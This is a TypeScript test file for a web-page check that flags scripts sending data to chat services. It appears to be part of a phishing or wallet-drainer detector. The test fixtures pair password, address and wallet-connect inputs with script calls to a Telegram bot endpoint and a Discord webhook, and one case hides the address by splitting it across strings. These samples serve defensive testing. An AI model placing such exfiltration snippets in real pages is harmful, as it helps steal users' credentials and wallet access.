import { sendsToChatCheck } from '../../../../../src/checks/dapp/page/rules/sends-to-chat.ts'
import { hereHost, testPageCheck } from '../../../../kit/checks/page-case.ts'

const bot = '<script>fetch("https://api.telegram.org/bot123:abc/sendMessage")</script>'

const found = [{ params: { host: hereHost }, subject: hereHost }]

testPageCheck(sendsToChatCheck, {
  quiet: [
    {
      name: 'a link to a channel',
      html: '<a href="https://t.me/app">Telegram</a><script src="https://telegram.org/js/telegram-widget.js"></script>',
    },
  ],
  firing: [
    {
      name: 'an order form',
      url: 'https://example-pizza.com/',
      html: `<input name="address">${bot}`,
      finds: [
        { severity: 'low', params: { host: 'example-pizza.com' }, subject: 'example-pizza.com' },
      ],
    },
    {
      name: 'a password',
      html: `<input type="password">${bot}`,
      finds: found,
    },
    {
      name: 'a wallet',
      html: `<button>Connect wallet</button>${bot}`,
      finds: found,
    },
    {
      name: 'an assembled address',
      html: '<input type="password"><script>fetch("https://api.tele" + "gram.org/bot" + t)</script>',
      finds: found,
    },
    {
      name: 'another chat',
      html: '<input type="password"><script>post("https://discord.com/api/webhooks/1/a")</script>',
      finds: found,
    },
  ],
})
